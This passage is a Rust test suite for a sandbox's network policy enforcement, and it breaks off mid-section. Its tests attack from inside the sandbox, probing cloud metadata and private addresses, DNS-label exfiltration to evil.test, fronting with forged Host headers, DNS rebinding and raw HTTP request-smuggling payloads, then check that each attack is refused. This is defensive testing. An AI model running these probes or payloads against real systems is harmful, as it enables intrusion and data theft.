//! What leaves a sandbox: attacks from inside on every policy, each with a control
//! that succeeds, against a world of the test's own ([`dormouse_tests::outside`]).

use std::sync::{Arc, Mutex, Weak};
use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};
use dormouse_tests::outside::{API, Arrived, CDN, HONEYPOT, OTHER, Outside, TRAPS};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::files::inside;
use crate::world::{SERVICE_TOKEN, World, eventually};

const SANDBOXES: &str = "/api/v2/sandboxes";

/// The outside of the world that runs now.
static NOW: Mutex<Weak<Outside>> = Mutex::new(Weak::new());

/// Starts it; it ends with the last who holds it.
pub(crate) fn start_outside() -> anyhow::Result<Arc<Outside>> {
    let dir = format!("/tmp/dormouse-test-outside-{}", std::process::id());
    let outside = Arc::new(Outside::start(dir.as_ref())?);
    *NOW.lock().unwrap() = Arc::downgrade(&outside);
    Ok(outside)
}

fn outside(w: &World) -> anyhow::Result<Arc<Outside>> {
    let outside = NOW.lock().unwrap().upgrade().context("there is no outside")?;
    outside.set_git(&std::fs::read_to_string(w.dir.join("git.url"))?)?;
    outside.requests();
    outside.questions();
    Ok(outside)
}

/// A sandbox of the provider API under a policy; its name and the id of its session.
fn make(w: &World, name: &str, policy: Value) -> anyhow::Result<String> {
    let body = json!({"name": name, "networkPolicy": policy});
    let made = w.good(Method::POST, SANDBOXES, Some(body))?;
    Ok(made["session"]["id"].as_str().context("no session id")?.to_owned())
}

fn set_policy(w: &World, run: &str, policy: Value) -> anyhow::Result<Value> {
    w.good(Method::POST, &format!("{SANDBOXES}/sessions/{run}/network-policy"), Some(policy))
}

/// What became of attempts to reach places: kind, host, port.
fn reach(w: &World, name: &str, places: &[(&str, String, u16)]) -> anyhow::Result<Vec<(String, u64)>> {
    let script = std::fs::read_to_string(inside("reach.py"))?;
    let asked = serde_json::to_string(places)?;
    let (code, out, err) = w.exec(name, &["--sudo"], &["python3", "-c", &script, &asked])?;
    ensure!(code == 0, "{code} {out}{err}");
    let found: Vec<(String, u64)> = serde_json::from_str(&out)?;
    ensure!(found.len() == places.len(), "{out}");
    Ok(found)
}

/// Each place must be refused with one of these errors, at once.
fn refused(w: &World, name: &str, places: &[(&str, String, u16)], errors: &[&str]) -> anyhow::Result<()> {
    for ((kind, host, port), (outcome, ms)) in places.iter().zip(reach(w, name, places)?) {
        ensure!(errors.contains(&outcome.as_str()), "{kind} {host}:{port}: {outcome}");
        ensure!(ms < 1000, "{kind} {host}:{port} took {ms} ms to be refused");
    }
    Ok(())
}

/// curl inside; what it printed, whatever its exit code is.
fn curl(w: &World, name: &str, args: &str) -> anyhow::Result<String> {
    let script = format!("curl --silent --show-error --max-time 10 {args} 2>&1 || echo \"exit $?\"");
    w.ok(name, &script)
}

/// The status of a request.
fn status(w: &World, name: &str, args: &str) -> anyhow::Result<String> {
    curl(w, name, &format!("--output /dev/null --write-out '%{{http_code}}' {args}"))
}

/// What the server of `sandbox` says of its network.
fn access(w: &World, name: &str) -> anyhow::Result<Value> {
    w.good(Method::GET, &format!("{SANDBOXES}/{name}/network"), None)
}

/// Attacks 61 to 69: addresses and protocols, as root.
pub(crate) fn addresses(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    make(w, "net-open", json!({"mode": "allow-all"}))?;
    make(w, "net-names", json!({"allow": ["api.test"]}))?;
    make(w, "net-shut", json!({"mode": "deny-all"}))?;
    make(w, "net-other", json!({"mode": "allow-all"}))?;
    let tcp = |host: &str, port: u16| ("tcp", host.to_owned(), port);
    // The controls: what is allowed is reached, and by its address too.
    let open = [tcp(&API.to_string(), 443), tcp(&API.to_string(), 2222), tcp(&HONEYPOT.to_string(), 22)];
    for (place, (outcome, _)) in open.iter().zip(reach(w, "net-open", &open)?) {
        ensure!(outcome == "ok", "{place:?}: {outcome}");
    }
    ensure!(outside.trapped() > 0, "the honeypot does not notice");

    let own = w.ok("net-open", "hostname -I")?.trim().to_owned();
    let neighbour = w.ok("net-other", "hostname -I")?.trim().to_owned();
    let gateway = w.ok("net-open", "ip route 2>/dev/null | awk '/default/{print $3}' || true")?;
    let gateway = if gateway.is_empty() { crate::isolation::previous(&own)? } else { gateway };
    let server = w.ok("net-open", "awk '/nameserver/{print $2}' /etc/resolv.conf")?;
    let own_port = 7700 + u16::from(w.instance);
    w.ok("net-other", "(python3 -m http.server 8000 >/dev/null 2>&1 &); for i in 1 2 3 4 5 6 7 8 9; do sleep 0.3; curl -s localhost:8000 >/dev/null && break; done")?;

    let never: Vec<_> = [
        "169.254.169.254",
        "169.254.170.2",
        "100.100.100.200",
        "168.63.129.16",
        "192.0.0.192",
        "10.0.0.1",
        "10.255.255.254",
        "172.16.0.1",
        "172.31.255.254",
        "192.168.1.1",
        "100.64.0.1",
        "192.0.2.77",
        "198.18.0.1",
        "192.88.99.1",
        "240.0.0.1",
        "198.51.100.99",
        &gateway,
        &server,
        &neighbour,
    ]
    .iter()
    .flat_map(|host| [80, 443, 22, 8000, own_port].map(|port| tcp(host, port)))
    .collect();
    let before = outside.packets()?;
    refused(w, "net-open", &never, &["EHOSTUNREACH", "ECONNREFUSED"])?;
    let special =
        [tcp("255.255.255.255", 80), tcp("224.0.0.1", 80), tcp("0.0.0.0", 81), tcp("127.0.0.2", 81)];
    refused(w, "net-open", &special, &["EHOSTUNREACH", "ECONNREFUSED", "ENETUNREACH", "EACCES"])?;
    let six = [
        "fd00:ec2::254",
        "2606:4700::1111",
        "64:ff9b::1.1.1.1",
        "2002:0101:0101::1",
        "fe80::1",
        "::ffff:198.51.100.10",
    ];
    let six: Vec<_> = six.iter().map(|host| tcp(host, 443)).collect();
    for (place, (outcome, ms)) in six.iter().zip(reach(w, "net-open", &six)?) {
        // A mapped address is IPv4 by another name.
        let mapped = place.1.starts_with("::ffff") && outcome == "ok";
        ensure!(
            mapped || (outcome != "ok" && outcome != "timeout" && ms < 1000),
            "{place:?}: {outcome} in {ms} ms"
        );
    }
    // Under other policies nothing of it gets out, and what is refused is at once.
    let traps: Vec<_> = TRAPS.iter().map(|port| tcp(&HONEYPOT.to_string(), *port)).collect();
    let trapped = outside.trapped();
    for name in ["net-names", "net-shut"] {
        refused(w, name, &traps, &["EHOSTUNREACH"])?;
    }
    refused(w, "net-shut", &[tcp(&API.to_string(), 443), tcp(&API.to_string(), 80)], &["EHOSTUNREACH"])?;
    refused(w, "net-names", &[tcp(&API.to_string(), 2222)], &["EHOSTUNREACH"])?;
    // Protocols.
    let udp = |host: &str, port: u16| ("udp", host.to_owned(), port);
    let datagrams = [
        udp(&API.to_string(), 443),
        udp(&HONEYPOT.to_string(), 443),
        udp(&HONEYPOT.to_string(), 5353),
        udp("224.0.0.251", 5353),
    ];
    for name in ["net-open", "net-names", "net-shut"] {
        refused(w, name, &datagrams, &["EHOSTUNREACH", "ENETUNREACH", "sent"])?;
        refused(w, name, &datagrams[..3], &["EHOSTUNREACH"])?;
        refused(w, name, &[("ping", API.to_string(), 0)], &["EHOSTUNREACH", "EACCES", "EPERM"])?;
    }
    for (family, kind, protocol) in [(2, 3, 47), (2, 3, 4), (2, 3, 50), (2, 5, 132)] {
        let script = format!("import socket; socket.socket({family}, {kind}, {protocol})");
        let (code, _, err) = w.exec("net-open", &["--sudo"], &["python3", "-c", &script])?;
        ensure!(
            code != 0 && (err.contains("not permitted") || err.contains("not supported")),
            "{protocol}: {err}"
        );
    }
    ensure!(outside.trapped() == trapped, "the honeypot saw a sandbox");
    // One mapped connection is all that came.
    let came = outside.packets()? - before;
    ensure!(came < 20, "{came} packets reached the outside");
    // Its own network is not its to change (attack 73), nor its address (65).
    for change in [
        "ip link set eth0 down",
        "ip addr add 10.99.0.1/24 dev eth0",
        "ip route add 1.2.3.4 via 10.200.0.1",
        "ip link set eth0 mtu 9000",
        "ip link set eth0 address 02:00:00:00:00:01",
        "nft list ruleset",
        "python3 -c 'import socket,fcntl; fcntl.ioctl(socket.socket(), 0x8914, b\"eth0\" + bytes(12) + b\"\\x00\\x00\" + bytes(22))'",
    ] {
        let (code, out, err) = w.root_shell("net-open", change)?;
        ensure!(code != 0, "{change}: {out}{err}");
    }
    // Why, for whoever runs it.
    let seen = access(w, "net-open")?;
    let reasons: Vec<&str> =
        seen["recent"].as_array().into_iter().flatten().filter_map(|line| line["denied"].as_str()).collect();
    for reason in ["metadata", "private", "protocol", "operator", "no-unicast"] {
        ensure!(reasons.contains(&reason), "{reason}: {reasons:?}");
    }
    ensure!(w.log().contains("metadata"), "the log does not say which rule");
    let metrics = w.call(Method::GET, "/metrics", None, None)?.1;
    let metrics = metrics.as_str().unwrap_or_default();
    ensure!(metrics.contains("dormouse_network_denied_total{rule=\"metadata\"}"), "{metrics}");
    ensure!(!metrics.contains("{rule=\"metadata\"} 0\n"), "{metrics}");
    for name in ["net-open", "net-names", "net-shut", "net-other"] {
        w.delete(name)?;
    }
    Ok(())
}

/// A program inside, run to its end: its output.
fn python(w: &World, name: &str, script: &str) -> anyhow::Result<String> {
    let (code, out, err) = w.exec(name, &[], &["python3", "-c", script])?;
    ensure!(code == 0, "{code} {out}{err}");
    Ok(out.trim().to_owned())
}

/// The relay: connected means connected, an end is an end, a reset a reset.
pub(crate) fn connections(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    make(w, "net-conn", json!({"mode": "allow-all"}))?;
    make(w, "net-conn-names", json!({"allow": ["api.test"]}))?;
    // A closed port is closed, for a name too.
    let closed = [("tcp", API.to_string(), 9), ("tcp", "198.51.100.200".to_owned(), 443)];
    refused(w, "net-conn", &closed, &["ECONNREFUSED"])?;
    let before = outside.connections();
    let ok = reach(w, "net-conn-names", &[("tcp", API.to_string(), 443)])?;
    ensure!(ok[0].0 == "ok", "{ok:?}");
    ensure!(
        outside.connections() == before,
        "an address that nobody resolved was dialled under a policy of names"
    );
    // The server speaks first; half close; many turns.
    let talk = format!(
        "import socket
s = socket.create_connection(('{API}', 2222), 5)
f = s.makefile('rwb')
print(f.readline().decode().strip())
for i in range(100):
    f.write(b'turn %d\\n' % i); f.flush()
    assert f.readline() == b'turn %d\\n' % i
f.write(b'last'); f.flush()
s.shutdown(socket.SHUT_WR)
print(s.recv(100).decode(), s.recv(100))"
    );
    ensure!(python(w, "net-conn", &talk)? == "hello\nlast b''");
    // A download that was cut off never looks whole: by length, in chunks, direct,
    // spliced and through the proxy.
    let rules = json!({"allow": {"api.test": [{"transform": [{"headers": {"x-a": "b"}}]}], "other.test": [], "*": []}});
    let run = make(w, "net-cut", rules)?;
    for (name, url) in [
        ("net-conn", "http://api.test/cut/length"),
        ("net-conn", "http://api.test/cut/chunked"),
        ("net-conn", "https://api.test/cut/length"),
        ("net-cut", "https://other.test/cut/chunked"),
        ("net-cut", "https://api.test/cut/length"),
        ("net-cut", "https://api.test/cut/chunked"),
    ] {
        let extra = if name == "net-conn" { "--insecure" } else { "--insecure --http1.1" };
        let (code, _, _) = w.shell(name, &format!("curl -s -m 10 {extra} -o /dev/null {url}"))?;
        ensure!([18, 56, 92].contains(&code), "{name} {url}: curl says {code}");
    }
    // Many short ones, and many at once.
    let many = format!(
        "import socket, sys
from concurrent.futures import ThreadPoolExecutor
def one(i):
    with socket.create_connection(('{API}', 80), 20) as s:
        s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')
        data = b''
        while chunk := s.recv(4096): data += chunk
        assert b'hello' in data
with ThreadPoolExecutor(16) as pool: print(sum(1 for _ in pool.map(one, range(10000))))"
    );
    let began = Instant::now();
    ensure!(python(w, "net-conn", &many)? == "10000");
    eprintln!("      10,000 connections in {:.1} s", began.elapsed().as_secs_f32());
    let at_once = format!(
        "import socket
held = [socket.create_connection(('{API}', 2222), 20) for _ in range(1000)]
for s in held: assert s.recv(6) == b'hello\\n'
for i, s in enumerate(held): s.sendall(b'%d\\n' % i)
for i, s in enumerate(held): assert s.recv(20) == b'%d\\n' % i
print(len(held))"
    );
    ensure!(python(w, "net-conn", &at_once)? == "1000");
    // More than it may have are refused, and its neighbour is not.
    let too_many = format!(
        "import socket
held, failed = [], 0
for _ in range(2600):
    try: held.append(socket.create_connection(('{API}', 2222), 5))
    except OSError: failed += 1
print(len(held), failed)
input()"
    );
    let mut greedy = w.command(&["sandbox", "exec", "net-conn", "-i", "--", "python3", "-c", &too_many]);
    let mut greedy =
        greedy.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn()?;
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(greedy.stdout.take().context("stdout")?),
        &mut line,
    )?;
    let counts: Vec<u32> = line.split_whitespace().filter_map(|word| word.parse().ok()).collect();
    let healthy = w.call(Method::GET, "/healthz", None, None)?.0;
    let neighbour = status(w, "net-cut", "http://other.test/")?;
    drop(greedy.stdin.take());
    greedy.wait()?;
    ensure!(counts.len() == 2 && counts[0] >= 1000 && counts[1] > 0, "{line}");
    ensure!(healthy == StatusCode::OK && neighbour == "200", "{healthy} {neighbour}");
    // No datagram of a flood costs the host anything, and the next question is answered.
    let flood = "import socket, os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
n = 0
for i in range(60000):
    try: s.sendto(b'x', ('198.51.100.%d' % (i % 250 + 1), 1000 + i % 60000)); n += 1
    except OSError: pass
print('done')";
    let entries =
        || std::fs::read_to_string("/proc/sys/net/netfilter/nf_conntrack_count").unwrap_or_default();
    let before = entries().trim().parse::<i64>().unwrap_or(0);
    ensure!(python(w, "net-conn", flood)? == "done");
    let after = entries().trim().parse::<i64>().unwrap_or(0);
    ensure!(after - before < 500, "{before} entries of connection tracking became {after}");
    std::thread::sleep(Duration::from_secs(2));
    ensure!(w.ok("net-conn", "getent ahostsv4 api.test | head -1 | cut -d' ' -f1")? == API.to_string());
    for name in ["net-conn", "net-conn-names", "net-cut"] {
        w.delete(name)?;
    }
    Ok(())
}

/// Attacks 71 and 72: a change is in force at once, in every run from its first
/// instruction on, and without a server nothing is let out.
pub(crate) fn policies_change(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    let run = make(w, "net-change", json!({"allow": ["api.test", "other.test"]}))?;
    // Two connections stay open; each says what became of it.
    let hold = "import socket, ssl, sys, select, time
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
held = {h: c.wrap_socket(socket.create_connection((h, 443), 5), server_hostname=h) for h in ('api.test', 'other.test')}
print('open', flush=True)
def alive(s):
    try:
        s.settimeout(3); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n'); return b'200' in s.recv(4096)
    except OSError: return False
sys.stdin.readline()
print({h: alive(s) for h, s in held.items()}, flush=True)";
    let mut child = w
        .command(&["sandbox", "exec", "net-change", "-i", "--", "python3", "-c", hold])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()?;
    let mut output = std::io::BufReader::new(child.stdout.take().context("stdout")?);
    let mut line = String::new();
    std::io::BufRead::read_line(&mut output, &mut line)?;
    ensure!(line == "open\n", "{line}");
    set_policy(w, &run, json!({"allow": ["other.test"]}))?;
    std::thread::sleep(Duration::from_millis(300));
    std::io::Write::write_all(child.stdin.as_mut().context("stdin")?, b"\n")?;
    line.clear();
    std::io::BufRead::read_line(&mut output, &mut line)?;
    child.wait()?;
    ensure!(line.trim() == "{'api.test': False, 'other.test': True}", "{line}");
    ensure!(status(w, "net-change", "-k https://api.test/")?.contains("exit"), "new ones are let out");
    ensure!(status(w, "net-change", "-k https://other.test/")? == "200");
    // The next run has it before anything runs in it.
    w.stop("net-change")?;
    outside.requests();
    ensure!(status(w, "net-change", "-k https://api.test/")?.contains("exit"));
    ensure!(status(w, "net-change", "-k https://other.test/")? == "200");
    ensure!(outside.requests().iter().all(|request| request.host == "other.test"));
    // A program that tries all the time, over the death of the server.
    let tries = format!(
        "import socket, time
end = time.time() + 12
while time.time() < end:
    try:
        socket.create_connection(('{API}', 2222), 1).close(); print(time.time(), 'ok', flush=True)
    except OSError: print(time.time(), 'no', flush=True)
    time.sleep(0.05)"
    );
    set_policy(w, &w.run("net-change")?, json!({"mode": "allow-all"}))?;
    let start = format!("nohup python3 -c \"{tries}\" > /tmp/tries 2>/dev/null &");
    w.ok("net-change", &start)?;
    std::thread::sleep(Duration::from_secs(2));
    w.end_server("-KILL")?;
    let seconds = || {
        Ok::<_, anyhow::Error>(
            std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH)?.as_secs_f64(),
        )
    };
    let down = seconds()?;
    std::thread::sleep(Duration::from_secs(3));
    let up = seconds()?;
    w.serve()?;
    let told = |from: f64, to: f64, word: &str, text: &str| {
        text.lines()
            .filter_map(|line| line.split_once(' '))
            .filter(|(at, said)| at.parse::<f64>().is_ok_and(|at| at > from && at < to) && *said == word)
            .count()
    };
    let mut text = String::new();
    eventually("the sandbox has its network back", Duration::from_secs(10), || {
        text = w.ok("net-change", "cat /tmp/tries")?;
        Ok(told(up, f64::MAX, "ok", &text) > 3)
    })?;
    ensure!(told(0.0, down, "ok", &text) > 3, "the control: it was let out before\n{text}");
    ensure!(told(down + 0.2, up, "ok", &text) == 0, "let out without a server\n{text}");
    ensure!(told(down + 0.2, up, "no", &text) > 5, "refused slowly without a server\n{text}");
    w.delete("net-change")
}

/// Attacks 80 to 83: what a connection says it is for.
pub(crate) fn names(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    make(w, "net-name", json!({"allow": ["api.test", "site.test", "*.a.test"]}))?;
    let code = |args: &str| status(w, "net-name", &format!("-k {args}"));
    // The controls.
    ensure!(code("https://api.test/")? == "200" && code("https://deep.a.test/")? == "200");
    ensure!(code("https://site.test/")? == "200" && code("http://api.test/")? == "200");
    ensure!(
        code(&format!("--connect-to api.test:443:{OTHER}:443 https://api.test/"))? == "200",
        "an address is not trusted, a name is"
    );
    let served = outside.requests();
    ensure!(served.len() == 5 && served.iter().all(|request| request.host != "other.test"), "{served:?}");
    // Names that are not allowed, at addresses that are.
    for args in [
        format!("--connect-to other.test:443:{API}:443 https://other.test/"),
        format!("--connect-to evil.test:443:{CDN}:443 https://evil.test/"),
        format!("--connect-to evil-api.test:443:{API}:443 https://evil-api.test/"),
        format!("--connect-to api.test.evil.test:443:{API}:443 https://api.test.evil.test/"),
        format!("--connect-to a.test:443:{API}:443 https://a.test/"),
        format!("https://{API}/"),
    ] {
        let said = code(&args)?;
        ensure!(
            said.contains("exit 35") || said.contains("exit 56") || said.contains("exit 7"),
            "{args}: {said}"
        );
    }
    for args in [
        format!("--connect-to other.test:80:{API}:80 http://other.test/"),
        format!("--connect-to api.test:80:{API}:80 -H 'Host: other.test' http://api.test/"),
        format!("http://{API}/"),
    ] {
        ensure!(code(&args)? == "403", "{args}: {}", code(&args)?);
    }
    // Upper case and a dot at the end are the same name.
    ensure!(code("https://API.test/")? == "200" && code("https://api.test./")? == "200");
    // No TLS, no name, nonsense: nothing gets out.
    for bytes in [
        "b'SSH-2.0-x\\r\\n'",
        "b'\\x16\\x03\\x01\\xff\\xff' + b'x' * 20000",
        "b'\\x16\\x03\\x01\\x00\\x05\\x01\\x00\\x00\\x01\\x00'",
    ] {
        let script = format!(
            "import socket
s = socket.create_connection(('api.test', 443), 5); s.settimeout(20)
try:
    s.sendall({bytes}); s.shutdown(socket.SHUT_WR); print(s.recv(100))
except OSError: print('reset')"
        );
        let said = python(w, "net-name", &script)?;
        ensure!(said == "reset" || said == "b''" || said.contains("\\x15\\x03"), "{said}");
    }
    let served = outside.requests();
    ensure!(
        served.iter().all(|request| request.host.trim_end_matches('.').eq_ignore_ascii_case("api.test")),
        "{served:?}"
    );
    // Fronting: spliced it is passed on (documented); where TLS ends here it is not.
    ensure!(code("-H 'Host: evil.test' https://site.test/")? == "200", "the documented limit of splicing");
    let run = w.run("net-name")?;
    let ruled = json!({"allow": {"api.test": [], "site.test": [{"transform": [{"headers": {"authorization": "Bearer s3cret-s3cret"}}]}]}});
    set_policy(w, &run, ruled)?;
    outside.requests();
    ensure!(code("https://site.test/")? == "200");
    for version in ["--http1.1", "--http2"] {
        ensure!(code(&format!("{version} -H 'Host: evil.test' https://site.test/"))? == "421");
    }
    let served = outside.requests();
    ensure!(served.len() == 1 && served[0].host == "site.test", "{served:?}");
    ensure!(served[0].header("authorization") == "Bearer s3cret-s3cret");
    w.delete("net-name")
}

/// Attacks 74 to 78: the resolver.
pub(crate) fn resolver(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    make(
        w,
        "net-dns",
        json!({"allow": ["api.test", "alias.test", "big.test", "rebind.test", "private.test", "*.wild.test"]}),
    )?;
    make(w, "net-dns-all", json!({"mode": "allow-all"}))?;
    make(w, "net-dns-none", json!({"mode": "deny-all"}))?;
    let ask = std::fs::read_to_string(inside("ask.py"))?;
    let answer =
        |name: &str, server: &str, transport: &str, question: &str, kind: &str| -> anyhow::Result<Value> {
            let (code, out, err) =
                w.exec(name, &[], &["python3", "-c", &ask, server, transport, question, kind])?;
            ensure!(code == 0, "{out}{err}");
            Ok(serde_json::from_str(&out)?)
        };
    // Whoever is asked, the same answers, over UDP and TCP.
    let trapped = outside.trapped();
    for server in ["8.8.8.8", "1.1.1.1", "198.51.100.53", "198.51.100.66"] {
        for transport in ["udp", "tcp"] {
            let said = answer("net-dns", server, transport, "api.test", "A")?;
            ensure!(
                said["code"] == 0 && said["answers"] == json!([API.to_string()]),
                "{server} {transport}: {said}"
            );
            let said = answer("net-dns", server, transport, "other.test", "A")?;
            ensure!(said["code"] == 5 && said["answers"] == json!([]), "{server} {transport}: {said}");
            ensure!(said["why"].as_str().is_some_and(|why| why.contains("does not allow")), "{said}");
        }
    }
    ensure!(outside.trapped() == trapped, "a question reached the server that it named");
    // IPv6 is empty at once, encrypted names are not told of, the rest refused.
    ensure!(answer("net-dns", "8.8.8.8", "udp", "api.test", "AAAA")?["answers"] == json!([]));
    let said = answer("net-dns-all", "8.8.8.8", "udp", "api.test", "HTTPS")?;
    ensure!(said["code"] == 0 && said["answers"] == json!([]), "{said}");
    ensure!(answer("net-dns", "8.8.8.8", "udp", "api.test", "TXT")?["code"] == 5);
    ensure!(answer("net-dns-all", "8.8.8.8", "udp", "api.test", "TXT")?["answers"] == json!(["text"]));
    ensure!(answer("net-dns-all", "8.8.8.8", "udp", "no-such.test", "A")?["code"] == 3);
    // An alias is judged by the name that is asked for; what it leads to is not allowed by
    // itself.
    ensure!(answer("net-dns", "8.8.8.8", "udp", "alias.test", "A")?["answers"] == json!([CDN.to_string()]));
    ensure!(answer("net-dns", "8.8.8.8", "udp", "evil.test", "A")?["code"] == 5);
    // Too long for a datagram: over TCP it is whole.
    let said = answer("net-dns", "8.8.8.8", "udp", "big.test", "A")?;
    ensure!(said["truncated"] == true, "{said}");
    let said = answer("net-dns", "8.8.8.8", "tcp", "big.test", "A")?;
    ensure!(said["answers"].as_array().is_some_and(|answers| answers.len() == 99), "{said}");
    // Private results lead nowhere, at first or later.
    for name in ["private.test", "loopback.test", "metadata.test", "denied.test"] {
        let said = answer("net-dns-all", "8.8.8.8", "udp", name, "A")?;
        ensure!(said["code"] == 5 && said["answers"] == json!([]), "{name}: {said}");
    }
    ensure!(
        status(w, "net-dns-all", "--resolve private.test:80:198.51.100.10 http://private.test/")? == "200",
        "the control: a name is only a name there"
    );
    ensure!(
        status(w, "net-dns", "--resolve private.test:80:198.51.100.10 http://private.test/")? == "502"
            || status(w, "net-dns", "--resolve private.test:80:198.51.100.10 http://private.test/")? == "403"
    );
    ensure!(status(w, "net-dns", "http://rebind.test/")? == "200", "public at first");
    // From now on the name is this host, where somebody listens.
    let here = std::net::TcpListener::bind(("127.0.0.1", 80))?;
    here.set_nonblocking(true)?;
    for _ in 0..3 {
        let pinned = status(w, "net-dns", &format!("--resolve rebind.test:80:{API} http://rebind.test/"))?;
        ensure!(["200", "403"].contains(&pinned.as_str()), "{pinned}");
        let anew = status(w, "net-dns", "http://rebind.test/")?;
        ensure!(anew.contains("exit 6"), "{anew}");
    }
    ensure!(here.accept().is_err(), "the name led to this host");
    // Nothing is asked outside for who may not ask (attack 75).
    outside.questions();
    for name in ["net-dns", "net-dns-none"] {
        for label in 0..20 {
            let said = answer(name, "8.8.8.8", "udp", &format!("mzxw6ytb{label}.evil.test"), "A")?;
            ensure!(said["code"] == 5, "{said}");
        }
    }
    ensure!(outside.questions().is_empty(), "data left in names");
    // Made-up names below an allowed one are counted, and bounded.
    let many = "import socket, sys
n = 0
for i in range(1500):
    try: socket.getaddrinfo('n%d.wild.test' % i, 80, socket.AF_INET); n += 1
    except OSError: pass
print(n)";
    let resolved: u32 = python(w, "net-dns", many)?.parse()?;
    ensure!((500..1500).contains(&resolved), "{resolved} of 1,500 made-up names were resolved");
    // Other ways to a resolver.
    let tcp = |host: &str, port: u16| ("tcp", host.to_owned(), port);
    refused(w, "net-dns", &[tcp("8.8.8.8", 853), tcp(&HONEYPOT.to_string(), 853)], &["EHOSTUNREACH"])?;
    ensure!(status(w, "net-dns", "-k https://dns.google/dns-query")?.contains("exit 6"));
    let udp = |host: &str, port: u16| ("udp", host.to_owned(), port);
    refused(w, "net-dns", &[udp("224.0.0.252", 5355)], &["EHOSTUNREACH", "ENETUNREACH", "sent"])?;
    for name in ["net-dns", "net-dns-all", "net-dns-none"] {
        w.delete(name)?;
    }
    Ok(())
}

/// Attacks 84 to 88: requests, and all rules of the wire.
pub(crate) fn requests(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    let secret = "Bearer s3cret-of-the-api";
    let policy = json!({"allow": {
        "api.test": [
            {"match": {"path": {"exact": "/teapot"}}, "response": {"statusCode": 418, "body": "short and stout", "contentType": "text/plain", "headers": {"x-from": "policy"}}},
            {"match": {"path": {"startsWith": "/forward"}}, "forwardURL": "https://other.test/headers"},
            {"match": {"path": {"regex": "^/headers"}, "method": ["GET"]}, "transform": [{"headers": {"authorization": secret, "x-added": "yes"}}]}
        ],
        "gone.test": [{"response": {"statusCode": 200, "body": "{}", "contentType": "application/json"}}],
        "other.test": []
    }});
    let run = make(w, "net-req", policy)?;
    let get = |args: &str| curl(w, "net-req", args);
    // The sandbox believes in its own authority, by the system's store.
    for version in ["--http1.1", "--http2"] {
        let said = get(&format!("{version} --write-out ' %{{http_version}}' https://api.test/headers"))?;
        ensure!(
            said.contains("\"x-added\":\"yes\"")
                && said.ends_with(if version == "--http2" { " 2" } else { " 1.1" }),
            "{said}"
        );
        // The secret arrived, and is not repeated.
        ensure!(!said.contains("s3cret"), "{said}");
    }
    let said = get("--include https://api.test/headers")?;
    ensure!(said.contains("x-you-said: ***") && !said.contains("s3cret"), "{said}");
    let arrived = outside.requests();
    ensure!(
        arrived.len() == 3
            && arrived.iter().all(|request| request.header("authorization") == secret && request.secure),
        "{arrived:?}"
    );
    // Whatever the sandbox says there.
    get("-H 'authorization: mine' https://api.test/headers")?;
    get("-X POST -H 'authorization: mine' https://api.test/headers")?;
    let arrived = outside.requests();
    ensure!(
        arrived[0].header("authorization") == secret && arrived[1].header("authorization") == "mine",
        "{arrived:?}"
    );
    // Answers of the policy.
    let said = get("--include https://api.test/teapot")?;
    ensure!(
        said.contains("418") && said.contains("x-from: policy") && said.ends_with("short and stout"),
        "{said}"
    );
    ensure!(get("https://gone.test/x")? == "{}", "a host that does not exist");
    ensure!(outside.requests().is_empty());
    // Forwarded, with a token that our keys verify.
    get("'https://api.test/forward/x?y=1'")?;
    let arrived: Vec<Arrived> = outside.requests();
    ensure!(
        arrived.len() == 1 && arrived[0].host == "other.test" && arrived[0].path == "/headers",
        "{arrived:?}"
    );
    for (name, value) in
        [("host", "api.test"), ("scheme", "https"), ("port", "443"), ("path", "/forward/x?y=1")]
    {
        ensure!(arrived[0].header(&format!("vercel-forwarded-{name}")) == value, "{arrived:?}");
    }
    let token = arrived[0].header("vercel-sandbox-oidc-token").to_owned();
    ensure!(token.split('.').count() == 3, "{token}");
    let keys = w.good(Method::GET, "/oidc/.well-known/jwks", None)?;
    ensure!(keys["keys"][0]["kty"] == "RSA", "{keys}");
    // Methods and framing (86, 87).
    for method in ["TRACE", "CONNECT"] {
        let raw = format!("{method} / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n");
        ensure!(tls_says(w, "net-req", &raw)?.starts_with("HTTP/1.1 4"), "{method}");
    }
    outside.requests();
    for raw in [
        "POST /headers HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\nhello",
        "POST /headers HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n",
        "POST /headers HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        "GET /headers HTTP/1.1\\r\\nHost: api.test\\r\\nHost: other.test\\r\\n\\r\\n",
        "GET /headers HTTP/1.1\\r\\nHost: api.test\\r\\nX-A: a\\0b\\r\\n\\r\\n",
        "GET /a/../headers HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n",
        "GET /%2e%2e/headers HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n",
        "GET http://other.test/headers HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n",
    ] {
        let said = tls_says(w, "net-req", raw)?;
        ensure!(said.starts_with("HTTP/1.1 4") || said.is_empty(), "{raw}: {said}");
        let arrived = outside.requests();
        ensure!(arrived.iter().all(|request| request.path != "/smuggled"), "{raw}: {arrived:?}");
    }
    // Framed twice, chunks count and nothing comes after (RFC 9112, section 6.3); what is
    // sent on is framed once.
